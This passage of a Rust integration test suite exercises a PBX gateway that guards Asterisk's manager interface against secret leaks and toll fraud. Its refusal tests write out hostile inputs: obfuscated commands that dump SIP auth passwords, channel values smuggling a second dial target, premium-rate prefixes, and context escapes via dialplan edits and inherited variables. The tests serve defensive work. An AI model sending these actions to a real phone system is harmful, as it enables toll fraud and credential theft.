    let r = direct.action(&[("Action", "Command"), ("Command", "pjsip show auth 1001")]);
    assert!(
        common::ami::headers(&r, "Output")
            .iter()
            .any(|l| l.contains("vault-only-sip-password")),
        "{r:?}"
    );
    drop(direct);

    let mut c = gw.dialer();
    gw.peer.clear_actions();
    for command in [
        "pjsip show auth 1001",
        "PJSIP  Show\tAUTH 1001",
        "\"pjsip\" sh\\ow auth 1001",
        "core show config mappings",
        "realtime load ps_auths id 1001",
        "realtime store ps_contacts id x uri sip:x@192.0.2.1",
        "database show",
        "iax2 show users",
    ] {
        let (r, before) = c.action_collect(&[("Action", "Command"), ("Command", command)], T);
        assert!(
            is_error(&r, "not allowed through the gateway"),
            "{command:?}: {r:?}"
        );
        let text = format!("{r:?}{before:?}");
        assert!(!text.contains("vault-only-sip-password"), "{text}");
    }
    let seen = gw.peer.actions();
    assert!(
        seen.iter().all(|a| a.action.eq_ignore_ascii_case("Ping")),
        "Asterisk saw: {:?}",
        seen.iter().map(|a| a.header("Command")).collect::<Vec<_>>()
    );
    // Listing names stays allowed, and the session stays open.
    let r = c.action(&[("Action", "Command"), ("Command", "pjsip show auths")]);
    assert_eq!(header(&r, "Response"), Some("Success"), "{r:?}");
    assert!(common::ami::headers(&r, "Output")
        .iter()
        .any(|l| l.contains("Auth:  1001/1001")));
    assert!(!format!("{r:?}").contains("vault-only-sip-password"));
    assert_eq!(gw.peer.actions_named("Command").len(), 1);
    // The audit journal writes in batches, within a second.
    let end = Instant::now() + T;
    let audit = loop {
        let audit = gw
            .env
            .sql("SELECT detail FROM audit_log WHERE action = 'ami.refused'");
        if audit.contains("(secrets)") || Instant::now() > end {
            break audit;
        }
        std::thread::sleep(Duration::from_millis(100));
    };
    assert!(audit.contains("(secrets)"), "{audit}");
}

#[test]
fn cli_manages_clients_and_removal_ends_sessions() {
    let gw = gateway("", &[]);
    let env = &gw.env;
    let json: serde_json::Value =
        serde_json::from_slice(&env.ok(&["ami", "user", "list", "--json"], b"")).unwrap();
    assert_eq!(json[0]["name"], "dialer");
    assert_eq!(json[0]["events"], serde_json::json!(["call"]));
    assert_eq!(
        json[0]["permit"],
        serde_json::json!(["127.0.0.0/8", "::1/128"])
    );
    assert!(
        !String::from_utf8_lossy(&env.ok(&["ami", "user", "list"], b"")).contains(DIALER_SECRET)
    );
    // Refused inputs: (arguments, stdin, part of the error).
    let add = |name: &'static str, extra: &[&'static str]| -> Vec<&'static str> {
        let mut v = vec![
            "ami",
            "user",
            "add",
            name,
            "--password-stdin",
            "--allow",
            "Ping",
        ];
        v.extend_from_slice(extra);
        v
    };
    for (args, stdin, needle) in [
        (add("x", &["--events", "calls"]), "s", "not an event class"),
        (
            add("x", &["--permit", "10.0.0.300/8"]),
            "s",
            "not an IP address",
        ),
        (
            add("x", &["--override", "everything"]),
            "s",
            "not a built-in refusal",
        ),
        (add("x", &[]), "", "empty"),
        (add("bad name", &[]), "s", "AMI client name"),
        (vec!["ami", "user", "rm", "nobody"], "", "no AMI client"),
    ] {
        let out = env.run(&args, stdin.as_bytes());
        assert!(!out.status.success(), "{args:?}");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains(needle), "{args:?}: {err}");
    }
    let mut c = gw.dialer();
    env.ok(&["ami", "user", "rm", "dialer"], b"");
    assert!(
        c.wait_closed(Duration::from_secs(15)),
        "session survived the client's removal"
    );
    let mut d = gw.client();
    assert!(is_error(
        &d.login("dialer", DIALER_SECRET),
        "Authentication failed"
    ));
    assert!(
        env.sql("SELECT count(*) FROM secrets WHERE name = 'ami/clients/dialer'")
            .trim()
            == "0"
    );
}

/// D4: on the AMI TLS listener, TLS 1.1 is refused by the server, a client that never
/// completes its handshake is closed after 10 s, and connections over `max_clients` are closed
/// at once (and counted) while the others are served.
#[test]
fn tls_1_1_slow_handshakes_and_max_clients_are_refused() {
    let gw = gateway(
        "tls_cert = \"{dir}/etc/tls/cert.pem\"\ntls_key = \"{dir}/etc/tls/key.pem\"\nmax_clients = 3\n",
        &[],
    );
    let s_client = |version: &str| {
        let mut child = std::process::Command::new("openssl")
            .args([
                "s_client",
                "-connect",
                &format!("127.0.0.1:{}", gw.port),
                version,
                // Lets the client offer TLS 1.1 at all: the refusal must be the server's.
                "-cipher",
                "DEFAULT@SECLEVEL=0",
            ])
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .expect("openssl");
        let deadline = Instant::now() + Duration::from_secs(10);
        while child.try_wait().unwrap().is_none() && Instant::now() < deadline {
            std::thread::sleep(Duration::from_millis(50));
        }
        let _ = child.kill();
        let out = child.wait_with_output().unwrap();
        format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    };
    // The server answers a TLS 1.1 hello with an alert (rustls speaks 1.2 and 1.3 only).
    let old = s_client("-tls1_1");
    assert!(
        (old.contains("alert handshake failure") || old.contains("alert protocol version"))
            && old.contains("Cipher is (NONE)")
            && !old.contains("Asterisk Call Manager/"),
        "{old}"
    );
    let good = s_client("-tls1_2");
    assert!(good.contains("New, TLSv1.2, Cipher is ECDHE"), "{good}");

    // A TCP connection that never starts its handshake.
    let silent = std::net::TcpStream::connect(("127.0.0.1", gw.port)).unwrap();
    silent
        .set_read_timeout(Some(Duration::from_secs(15)))
        .unwrap();
    let started = Instant::now();
    let n = std::io::Read::read(&mut &silent, &mut [0u8; 16]).unwrap_or(0);
    let waited = started.elapsed();
    assert_eq!(n, 0);
    assert!(
        waited >= Duration::from_secs(9) && waited < Duration::from_secs(13),
        "{waited:?}"
    );

    // Three connections hold every slot; the fourth is closed at once.
    let held: Vec<std::net::TcpStream> = (0..3)
        .map(|_| std::net::TcpStream::connect(("127.0.0.1", gw.port)).unwrap())
        .collect();
    std::thread::sleep(Duration::from_millis(300));
    let extra = std::net::TcpStream::connect(("127.0.0.1", gw.port)).unwrap();
    extra
        .set_read_timeout(Some(Duration::from_secs(3)))
        .unwrap();
    let started = Instant::now();
    let n = std::io::Read::read(&mut &extra, &mut [0u8; 16]).unwrap_or(0);
    assert_eq!(n, 0, "the connection over max_clients was not closed");
    assert!(started.elapsed() < Duration::from_secs(2));
    drop(held);
    std::thread::sleep(Duration::from_millis(300));
    let metrics = gw.env.request("GET", "/metrics", &[], None).body;
    assert!(
        metrics.contains("pbxguard_connections_refused_total{listener=\"ami\"} 1"),
        "{metrics}"
    );
    // Served again once slots are free.
    let again = s_client("-tls1_2");
    assert!(again.contains("New, TLSv1.2, Cipher is ECDHE"), "{again}");
}

#[test]
fn tls_clients_and_the_pool() {
    let gw = gateway(
        "tls_cert = \"{dir}/etc/tls/cert.pem\"\ntls_key = \"{dir}/etc/tls/key.pem\"\npool_size = 2\n",
        &[],
    );
    // The pool logs in ahead of clients: two sessions with events off, plus the banner probe.
    gw.peer.wait_logged_in(2, T);
    let script = format!(
        r#"
import socket, ssl, sys
ctx = ssl.create_default_context(cafile="{cafile}")
ctx.check_hostname = False
s = ctx.wrap_socket(socket.create_connection(("127.0.0.1", {port})), server_hostname="localhost")
f = s.makefile("rb")
print(f.readline().decode().strip())
s.sendall(b"Action: Login\r\nUsername: dialer\r\nSecret: {secret}\r\nActionID: L\r\n\r\nAction: Ping\r\nActionID: P\r\n\r\n")
for _ in range(2):
    while True:
        line = f.readline().decode().strip()
        if not line: break
        print(line)
"#,
        cafile = gw.env.cert().display(),
        port = gw.port,
        secret = DIALER_SECRET,
    );
    let out = std::process::Command::new("/usr/bin/python3")
        .args(["-c", &script])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{text}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(text.starts_with("Asterisk Call Manager/"), "{text}");
    assert!(
        text.contains("Message: Authentication accepted") && text.contains("Ping: Pong"),
        "{text}"
    );
    // Plain text is refused on the TLS port.
    let mut plain = AmiClient::try_connect(gw.port).unwrap();
    plain.send_raw(b"Action: Login\r\n\r\n");
    assert!(plain.read_line(Duration::from_secs(2)).is_none());
}

#[test]
fn real_clients_panoramisk_and_node_asterisk_manager() {
    let gw = gateway("", &[]);
    let dir = env!("CARGO_MANIFEST_DIR");
    for md5 in ["plain", "md5"] {
        let out = std::process::Command::new("/usr/bin/python3")
            .arg(format!("{dir}/tests/clients/ami_panoramisk.py"))
            .args([&gw.port.to_string(), "dialer", DIALER_SECRET, md5])
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "panoramisk {md5}: {}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
    }
    let out = std::process::Command::new("node")
        .arg(format!("{dir}/tests/clients/ami_node.js"))
        .args([&gw.port.to_string(), "dialer", DIALER_SECRET])
        .env("NODE_PATH", format!("{dir}/tests/clients/node_modules"))
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "asterisk-manager: {}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn reload_moves_the_listener_and_keeps_open_sessions() {
    let gw = gateway("", &[]);
    let mut c = gw.dialer();
    let new_port = free_port();
    let text = std::fs::read_to_string(&gw.env.config).unwrap().replace(
        &format!("listen = \"127.0.0.1:{}\"", gw.port),
        &format!("listen = \"127.0.0.1:{new_port}\""),
    );
    gw.env.write_config(&text);
    gw.daemon.signal("HUP");
    gw.daemon.wait_for_log("configuration reloaded");
    gw.daemon.wait_for_port(new_port);
    let mut d = AmiClient::connect(new_port);
    assert_eq!(
        header(&d.login("dialer", DIALER_SECRET), "Response"),
        Some("Success")
    );
    assert!(
        AmiClient::try_connect(gw.port).is_err(),
        "old port still accepts"
    );
    // The session opened before the reload still works.
    assert_eq!(
        header(&c.action(&[("Action", "Ping")]), "Ping"),
        Some("Pong")
    );
    // Removing [ami] closes the gateway and its sessions.
    let without: String = text.split("[ami]").next().unwrap().to_string();
    gw.env.write_config(&without);
    gw.daemon.signal("HUP");
    gw.daemon.wait_for_log("closing the AMI gateway");
    assert!(c.wait_closed(T) && d.wait_closed(T));
    assert!(AmiClient::try_connect(new_port).is_err());
}

/// One plain login from `source` (another loopback address); returns the answer's Message.
/// `pbxguard ban list --json`.
fn ban_list(env: &Env) -> serde_json::Value {
    serde_json::from_slice(&env.ok(&["ban", "list", "--json"], b"")).expect("ban list is JSON")
}

fn login_from(source: &str, port: u16, user: &str, secret: &str) -> String {
    let script = format!(
        r#"
import socket
s = socket.socket()
s.bind(("{source}", 0))
s.connect(("127.0.0.1", {port}))
f = s.makefile("rb")
f.readline()
s.sendall(b"Action: Login\r\nUsername: {user}\r\nSecret: {secret}\r\n\r\n")
for line in iter(f.readline, b""):
    if line.startswith(b"Message: "):
        print(line[9:].decode().strip())
        break
"#
    );
    let out = std::process::Command::new("/usr/bin/python3")
        .args(["-c", &script])
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

#[test]
fn outsiders_cannot_lock_a_client_out() {
    let gw = gateway("ban_threshold = 3\n", &[]);
    gw.env.add_ami_client(
        "office",
        "office-secret",
        &["--allow", "Ping", "--permit", "127.0.0.1/32"],
    );
    let Some(net) = common::netns::PhoneNet::create() else {
        return;
    };
    let src = net.host_ip.to_string();
    // Guesses from an address outside office's permit list ban that address only ...
    for _ in 0..3 {
        assert_eq!(
            login_from(&src, gw.port, "office", "guess"),
            "Authentication failed"
        );
    }
    gw.daemon
        .wait_for_log("AMI login ban started for the address");
    // ... (banned now: not even a banner) ...
    assert_eq!(login_from(&src, gw.port, "office", "office-secret"), "");
    // ... while office itself still logs in from its own address.
    assert_eq!(
        login_from("127.0.0.1", gw.port, "office", "office-secret"),
        "Authentication accepted"
    );
}

// ---------------------------------------------------------------------------------------------
// The toll-fraud guard at the AMI door: contexts, destinations, call limits, alerts.

/// A refusal by the toll-fraud rule `rule` (the Message names it in parentheses).
fn refused_by(m: &Msg, rule: &str) -> bool {
    header(m, "Response") == Some("Error")
        && header(m, "Message").is_some_and(|t| t.contains(&format!("({rule})")))
}

/// Audit rows of `actor` whose action starts with `prefix`, once there are at least `n`.
fn audit_actions(env: &Env, actor: &str, prefix: &str, n: usize) -> Vec<String> {
    let deadline = Instant::now() + T;
    loop {
        let rows = env.sql(&format!(
            "SELECT action FROM audit_log WHERE actor = '{actor}' AND action LIKE '{prefix}%' ORDER BY id"
        ));
        let rows: Vec<String> = rows.lines().map(|l| l.trim().to_string()).collect();
        if rows.len() >= n || Instant::now() > deadline {
            return rows;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

fn metrics(env: &Env) -> String {
    common::text(&env.curl_https("/metrics", &[]))
}

/// An Originate of `channel` into `context`/`exten`, priority 1.
fn originate<'a>(channel: &'a str, context: &'a str, exten: &'a str) -> Vec<(&'a str, &'a str)> {
    vec![
        ("Action", "Originate"),
        ("Channel", channel),
        ("Context", context),
        ("Exten", exten),
        ("Priority", "1"),
    ]
}

#[test]
fn calls_outside_the_clients_contexts_or_to_denied_numbers_never_reach_asterisk() {
    let gw = gateway("", &[]);
    let mut c = gw.dialer();
    gw.peer.clear_actions();
    let with = |mut base: Vec<(&'static str, &'static str)>,
                extra: &[(&'static str, &'static str)]| {
        base.extend_from_slice(extra);
        base
    };
    // The dialer may call into `default` and `from-crm`.
    let refused: Vec<(Vec<(&str, &str)>, &str)> = vec![
        (originate("PJSIP/100", "sales", "100"), "context"),
        (originate("PJSIP/100", "From-CRM", "100"), "context"),
        (originate("Local/1@sales", "from-crm", "100"), "context"),
        (
            originate("PJSIP/100&Local/2@sales/n", "from-crm", "100"),
            "context",
        ),
        (
            vec![
                ("Action", "Originate"),
                ("Channel", "PJSIP/100"),
                ("Exten", "100"),
                ("Priority", "1"),
            ],
            "context",
        ),
        (
            vec![
                ("Action", "Originate"),
                ("Channel", "PJSIP/100"),
                ("Application", "Dial"),
                ("Data", "PJSIP/200"),
            ],
            "context",
        ),
        (
            with(
                originate("PJSIP/100", "from-crm", "100"),
                &[("PreDialGoSub", "sales,s,1")],
            ),
            "context",
        ),
        (
            originate("PJSIP/100", "from-crm", "0088212345"),
            "deny_prefix",
        ),
        (
            originate("PJSIP/0088212345@trunk", "from-crm", "s"),
            "deny_prefix",
        ),
        (
            originate("PJSIP/trunk/sip:%2B88212345@203.0.113.9", "from-crm", "s"),
            "deny_prefix",
        ),
        (
            originate("PJSIP/100", "from-crm", "1001&PJSIP/trunk"),
            "dial_characters",
        ),
        (
            vec![
                ("Action", "Redirect"),
                ("Channel", "PJSIP/100-00000001"),
                ("Context", "sales"),
                ("Exten", "1"),
                ("Priority", "1"),
            ],
            "context",
        ),
        (
            vec![
                ("Action", "Redirect"),
                ("Channel", "PJSIP/100-00000001"),
                ("Context", "from-crm"),
                ("Exten", "1"),
                ("Priority", "1"),
                ("ExtraChannel", "PJSIP/101-00000002"),
                ("ExtraContext", "sales"),
                ("ExtraExten", "1"),
                ("ExtraPriority", "1"),
            ],
            "context",
        ),
        (
            vec![
                ("Action", "Redirect"),
                ("Channel", "PJSIP/100-00000001"),
                ("Context", "from-crm"),
                ("Exten", "+8816123456"),
                ("Priority", "1"),
            ],
            "deny_prefix",
        ),
    ];
    for (action, rule) in &refused {
        let r = c.action(action);
        assert!(refused_by(&r, rule), "{action:?} -> {r:?}");
    }
    // Still open; Asterisk saw none of them (only the Pings standing in for the answers).
    assert_eq!(
        header(&c.action(&[("Action", "Ping")]), "Ping"),
        Some("Pong")
    );
    let seen: Vec<String> = gw.peer.actions().iter().map(|a| a.action.clone()).collect();
    assert!(
        seen.iter().all(|a| a.eq_ignore_ascii_case("Ping")),
        "Asterisk saw refused calls: {seen:?}"
    );
    // A call into its own context goes through.
    let r = c.action(&originate("PJSIP/100", "from-crm", "100"));
    assert_eq!(header(&r, "Response"), Some("Success"), "{r:?}");
    let sent = gw.peer.actions_named("Originate");
    assert_eq!(sent.len(), 1);
    assert_eq!(sent[0].header("Context"), Some("from-crm"));
    // Each refusal: an audit row under its rule, the metric, the action counted as refused.
    let rows = audit_actions(&gw.env, "ami:dialer", "dialing.refused.", refused.len());
    let want: Vec<String> = refused
        .iter()
        .map(|(_, rule)| format!("dialing.refused.{rule}"))
        .collect();
    assert_eq!(rows, want);
    let m = metrics(&gw.env);
    assert!(
        m.contains("pbxguard_dial_refusals_total{door=\"ami\",rule=\"context\"} 9"),
        "{m}"
    );
    assert!(
        m.contains("pbxguard_dial_refusals_total{door=\"ami\",rule=\"deny_prefix\"} 4"),
        "{m}"
    );
    assert!(
        m.contains("pbxguard_ami_actions_total{result=\"refused\"} 14"),
        "{m}"
    );
    gw.daemon.wait_for_log("toll-fraud guard refused a call");
}

#[test]
fn a_confined_client_cannot_route_calls_around_its_contexts() {
    let gw = gateway("", &[]);
    gw.env.add_ami_client(
        "wide",
        "wide-secret",
        &["--allow", "*", "--context", "sales", "--events", "call"],
    );
    let mut c = gw.client();
    assert_eq!(
        header(&c.login("wide", "wide-secret"), "Response"),
        Some("Success")
    );
    gw.peer.clear_actions();
    let refused: Vec<(Vec<(&str, &str)>, &str)> = vec![
        (
            vec![
                ("Action", "Command"),
                (
                    "Command",
                    "channel originate PJSIP/0088212345@trunk extension x@any",
                ),
            ],
            "context",
        ),
        (
            vec![
                ("Action", "Command"),
                ("Command", "dialplan add include trunk-out into sales"),
            ],
            "context",
        ),
        (
            vec![
                ("Action", "DialplanExtensionAdd"),
                ("Context", "sales"),
                ("Extension", "9"),
                ("Priority", "1"),
                ("Application", "Dial"),
                ("ApplicationData", "PJSIP/${EXTEN}@trunk"),
            ],
            "context",
        ),
        (
            vec![
                ("Action", "QueueAdd"),
                ("Queue", "support"),
                ("Interface", "Local/100@other/n"),
            ],
            "context",
        ),
        (
            vec![
                ("Action", "QueueAdd"),
                ("Queue", "support"),
                ("Interface", "PJSIP/0088212345@trunk"),
            ],
            "deny_prefix",
        ),
        (
            vec![
                ("Action", "Setvar"),
                ("Channel", "PJSIP/100-00000001"),
                ("Variable", "__TRANSFER_CONTEXT"),
                ("Value", "intl"),
            ],
            "context",
        ),
        (
            vec![
                ("Action", "Originate"),
                ("Channel", "PJSIP/100"),
                ("Context", "sales"),
                ("Exten", "100"),
                ("Priority", "1"),
                ("Variable", "A=1,_FORWARD_CONTEXT=intl"),
            ],
            "context",
        ),
    ];
    for (action, rule) in &refused {
        let r = c.action(action);
        assert!(refused_by(&r, rule), "{action:?}: {r:?}");
    }
    // None of them reached Asterisk; the session goes on, and the same routes within its
    // context do go.
    for name in [
        "Command",
        "DialplanExtensionAdd",
        "QueueAdd",
        "Setvar",
        "Originate",
    ] {
        assert!(
            gw.peer.actions_named(name).is_empty(),
            "{name} reached Asterisk"
        );
    }
    let r = c.action(&[
        ("Action", "Setvar"),
        ("Channel", "PJSIP/100-00000001"),
        ("Variable", "TRANSFER_CONTEXT"),
        ("Value", "sales"),
    ]);
    assert!(!refused_by(&r, "context"), "{r:?}");
    let r = c.action(&[
        ("Action", "QueueAdd"),
        ("Queue", "support"),
        ("Interface", "Local/100@sales/n"),
    ]);
    assert!(!refused_by(&r, "context"), "{r:?}");
    assert_eq!(gw.peer.actions_named("Setvar").len(), 1);
    assert_eq!(gw.peer.actions_named("QueueAdd").len(), 1);
    assert!(!c.is_closed());
    let rows = audit_actions(&gw.env, "ami:wide", "dialing.refused.", refused.len());
    assert_eq!(rows.len(), refused.len(), "{rows:?}");
}

#[test]
fn page_from_an_unconfined_client_has_its_channels_checked() {
    let gw = gateway("", &[]);
    gw.env.add_ami_client(
        "legacy",
        "legacy-secret",
        &["--allow", "Ping", "--events", "call"],
    );
    // A client from before contexts: Originate allowed without any (as the store had it).
    gw.env
        .sql("UPDATE ami_clients SET allow = 'Originate' WHERE name = 'legacy'");
    let mut c = gw.client();
    assert_eq!(
        header(&c.login("legacy", "legacy-secret"), "Response"),
        Some("Success")
    );
    gw.peer.clear_actions();
    let r = c.action(&[
        ("Action", "Originate"),
        ("Channel", "PJSIP/100"),
        ("Application", "Page"),
        ("Data", "PJSIP/101&PJSIP/0088212345@trunk,d"),
    ]);
    assert!(refused_by(&r, "deny_prefix"), "{r:?}");
    assert!(gw.peer.actions_named("Originate").is_empty());
    let r = c.action(&[
        ("Action", "Originate"),
        ("Channel", "PJSIP/100"),
        ("Application", "Page"),
        ("Data", "PJSIP/101&PJSIP/102,d"),
    ]);
    assert_eq!(header(&r, "Response"), Some("Success"), "{r:?}");
    assert_eq!(gw.peer.actions_named("Originate").len(), 1);
}

#[test]
fn originates_in_flight_are_limited_until_asterisks_final_answer() {
    let gw = gateway("", &[]);
    for (name, events) in [("one", "call"), ("quiet", "agent")] {
        gw.env.add_ami_client(
            name,
            &format!("{name}-secret"),
            &[
                "--allow",
                "Originate",
                "--context",
                "from-crm",
                "--events",
                events,
                "--max-concurrent-calls",
                "1",
                "--max-call-attempts-per-minute",
                "0",
            ],
        );
    }
    let mut one = gw.client();
    assert_eq!(
        header(&one.login("one", "one-secret"), "Response"),
        Some("Success")
    );
    gw.peer.clear_actions();
    // Two synchronous Originates at once: the second arrives while Asterisk still dials the
    // first.
    let sync = |id: &str| {
        format!("Action: Originate\r\nChannel: PJSIP/100\r\nContext: from-crm\r\nExten: 100\r\nPriority: 1\r\nActionID: {id}\r\n\r\n")
    };
    one.send_raw(format!("{}{}", sync("a"), sync("b")).as_bytes());
    let first = one.read_response(T).unwrap();
    assert_eq!(header(&first, "ActionID"), Some("a"));
    assert_eq!(header(&first, "Response"), Some("Success"), "{first:?}");
    let second = one.read_response(T).unwrap();
    assert_eq!(header(&second, "ActionID"), Some("b"));
    assert!(refused_by(&second, "max_concurrent_calls"), "{second:?}");
    assert!(
        header(&second, "Message").is_some_and(|m| m.contains("try again in")),
        "{second:?}"
    );
    assert_eq!(gw.peer.actions_named("Originate").len(), 1);
    // Answered, so over: the next one goes.
    let r = one.action(&originate("PJSIP/100", "from-crm", "100"));
    assert_eq!(header(&r, "Response"), Some("Success"), "{r:?}");
    // Asynchronous: over at its OriginateResponse, even when the client reuses its ActionID.
    for _ in 0..2 {
        let mut a = originate("PJSIP/100", "from-crm", "100");
        a.extend_from_slice(&[("Async", "true"), ("ActionID", "same")]);
        let r = one.action(&a);
        assert_eq!(
            header(&r, "Message"),
            Some("Originate successfully queued"),
            "{r:?}"
        );
        let ev = one
            .read_until(
                T,
                |m| header(m, "Event") == Some("OriginateResponse"),
                &mut Vec::new(),
            )
            .expect("OriginateResponse");
        assert_eq!(header(&ev, "ActionID"), Some("same"), "{ev:?}");
    }
    assert_eq!(gw.peer.actions_named("Originate").len(), 4);

    // A client without call events never sees that event: its call counts until the
    // Originate's Timeout plus a margin of 10 s.
    let mut quiet = gw.client();
    assert_eq!(
        header(&quiet.login("quiet", "quiet-secret"), "Response"),
        Some("Success")
    );
    let mut a = originate("PJSIP/100", "from-crm", "100");
    a.extend_from_slice(&[("Async", "true"), ("Timeout", "1000")]);
    let started = Instant::now();
    let r = quiet.action(&a);
    assert_eq!(header(&r, "Response"), Some("Success"), "{r:?}");
    let r = quiet.action(&a);
    assert!(refused_by(&r, "max_concurrent_calls"), "{r:?}");
    let r = loop {
        std::thread::sleep(Duration::from_millis(500));
        let r = quiet.action(&a);
        if header(&r, "Response") == Some("Success") || started.elapsed() > Duration::from_secs(20)
        {
            break r;
        }
        assert!(refused_by(&r, "max_concurrent_calls"), "{r:?}");
    };
    assert_eq!(header(&r, "Response"), Some("Success"), "{r:?}");
    let took = started.elapsed();
    assert!(
        took >= Duration::from_secs(11) && took < Duration::from_secs(14),
        "{took:?}"
    );
}

#[test]
fn originates_per_minute_are_refused_then_allowed_again() {
    let gw = gateway("[dialing]\nmax_call_attempts_per_minute = 2\n", &[]);
    let mut c = gw.dialer();
    gw.peer.clear_actions();
    let call = originate("PJSIP/100", "from-crm", "100");
    let first = Instant::now();
    for _ in 0..2 {
        let r = c.action(&call);
        assert_eq!(header(&r, "Response"), Some("Success"), "{r:?}");
    }
    let r = c.action(&call);
    assert!(refused_by(&r, "max_call_attempts_per_minute"), "{r:?}");
    assert!(
        header(&r, "Message").is_some_and(|m| m.contains("try again in")),
        "{r:?}"
    );
    assert_eq!(gw.peer.actions_named("Originate").len(), 2);
    // Once the first two are a minute old, calls go through again.
    std::thread::sleep(Duration::from_secs(61).saturating_sub(first.elapsed()));
    let r = c.action(&call);
    assert_eq!(header(&r, "Response"), Some("Success"), "{r:?}");
    assert_eq!(gw.peer.actions_named("Originate").len(), 3);
}

#[test]
fn a_replaced_secret_ends_open_sessions() {
    let gw = gateway("", &[]);
    let mut c = gw.dialer();
    let mut other = gw.dialer();
    // `ami user add` on an existing name with the same policy and a new secret: whoever
    // holds the old secret is out within the re-check's 5 s.
    gw.env.add_ami_client(
        "dialer",
        "dialer-secret-2",
        &[
            "--allow",
            "Originate,Hangup,CoreShowChannels,Command,Status,Getvar,Setvar,GetConfig,UpdateConfig,CreateConfig,ListCategories,ModuleLoad,Redirect,Queue*",
            "--events",
            "call",
            "--context",
            "default,from-crm",
        ],
    );
    let replaced = Instant::now();
    assert!(
        c.wait_closed(Duration::from_secs(7)) && other.wait_closed(Duration::from_secs(1)),
        "a session opened with the old secret kept running"
    );
    assert!(replaced.elapsed() < Duration::from_secs(7));
    gw.daemon.wait_for_log("its secret was replaced");
    assert!(!gw.daemon.log().contains("dialer-secret-2"));
    // The old secret no longer logs in; the new one does, and that session stays.
    let mut old = gw.client();
    assert_eq!(
        header(&old.login("dialer", DIALER_SECRET), "Response"),
        Some("Error")
    );
    let mut new = gw.client();
    assert_eq!(
        header(&new.login("dialer", "dialer-secret-2"), "Response"),
        Some("Success")
    );
    // Removed and added again within the re-check's interval: also a new secret.
    gw.env.ok(&["ami", "user", "rm", "dialer"], b"");
    gw.env.add_ami_client(
        "dialer",
        "dialer-secret-3",
        &["--allow", "Ping", "--events", "call"],
    );
    assert!(
        new.wait_closed(Duration::from_secs(7)),
        "a session survived remove + add"
    );
    let mut third = gw.client();
    assert_eq!(
        header(&third.login("dialer", "dialer-secret-3"), "Response"),
        Some("Success")
    );
    assert!(
        !third.wait_closed(Duration::from_secs(6)),
        "the current secret's session was ended"
    );
}

#[test]
fn an_edit_applies_to_open_sessions_in_place() {
    let gw = gateway("", &[]);
    let mut c = gw.dialer();
    let logins = gw.peer.actions_named("Login").len();
    let into_sales = originate("PJSIP/100", "sales", "100");
    assert!(refused_by(&c.action(&into_sales), "context"));
    // Contexts: the open session may call into sales within the re-check's 5 s.
    gw.env.ok(
        &[
            "ami",
            "user",
            "edit",
            "dialer",
            "--context",
            "from-crm,sales",
        ],
        b"",
    );
    let edited = Instant::now();
    let until = |c: &mut AmiClient, a: &[(&str, &str)], done: &dyn Fn(&Msg) -> bool| {
        let t = Instant::now();
        loop {
            let r = c.action(a);
            if done(&r) || t.elapsed() > Duration::from_secs(8) {
                return r;
            }
            std::thread::sleep(Duration::from_millis(200));
        }
    };
    let r = until(&mut c, &into_sales, &|r| {
        header(r, "Response") == Some("Success")
    });
    assert_eq!(header(&r, "Response"), Some("Success"), "{r:?}");
    assert!(
        edited.elapsed() < Duration::from_secs(7),
        "{:?}",
        edited.elapsed()
    );
    // Limits too.
    gw.env.ok(
        &[
            "ami",
            "user",
            "edit",
            "dialer",
            "--max-concurrent-calls",
            "0",
            "--max-call-attempts-per-minute",
            "1",
        ],
        b"",
    );
    let r = until(&mut c, &into_sales, &|r| {
        refused_by(r, "max_call_attempts_per_minute")
    });
    assert!(refused_by(&r, "max_call_attempts_per_minute"), "{r:?}");
    // And the allow list: Originate dropped, refused in place.
    gw.env.ok(
        &["ami", "user", "edit", "dialer", "--allow", "Ping,Hangup"],
        b"",
    );
    let r = until(&mut c, &into_sales, &|r| {
        header(r, "Message") == Some("Permission denied")
    });
    assert_eq!(header(&r, "Message"), Some("Permission denied"), "{r:?}");
    // All of that in the same session: never closed, no new login to Asterisk.
    assert!(!c.is_closed());
    assert_eq!(gw.peer.actions_named("Login").len(), logins);
    // Event classes are set in Asterisk at login: changing them ends the session.
    gw.env.ok(
        &["ami", "user", "edit", "dialer", "--events", "call,agent"],
        b"",
    );
    assert!(
        c.wait_closed(Duration::from_secs(10)),
        "session kept its old event classes"
    );
    gw.daemon.wait_for_log("its event classes changed");
    // A new login gets the new policy.
    let r = gw
        .dialer()
        .action(&[("Action", "Hangup"), ("Channel", "PJSIP/x")]);
    assert_ne!(header(&r, "Message"), Some("Permission denied"), "{r:?}");
    // Every edit is audited with the whole new policy.
    let rows = gw.env.sql(
        "SELECT detail FROM audit_log WHERE action = 'ami.user.edit' AND target = 'dialer' ORDER BY id",
    );
    let rows: Vec<&str> = rows.lines().collect();
    assert_eq!(rows.len(), 4, "{rows:?}");
    assert!(rows[0].contains("contexts=from-crm,sales"), "{}", rows[0]);
    assert!(
        rows[1].contains("max_concurrent_calls=0 max_call_attempts_per_minute=1"),
        "{}",
        rows[1]
    );
    // Bad edits change nothing and say why.
    for (args, needle) in [
        (
            vec!["ami", "user", "edit", "nobody", "--allow", "Ping"],
            "no AMI client nobody",
        ),
        (vec!["ami", "user", "edit", "dialer"], "nothing to change"),
        (
            vec![
                "ami",
                "user",
                "edit",
                "dialer",
                "--allow",
                "Originate",
                "--context",
                "",
            ],
            "toll fraud",
        ),
        (
            vec!["ami", "user", "edit", "dialer", "--context", "a b"],
            "--context",
        ),
        (
            vec![
                "ami",
                "user",
                "edit",
                "dialer",
                "--max-concurrent-calls",
                "lots",
            ],
            "default",
        ),
    ] {
        let out = gw.env.run(&args, b"");
        assert!(!out.status.success(), "{args:?}");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains(needle), "{args:?}: {err}");
    }
}

#[test]
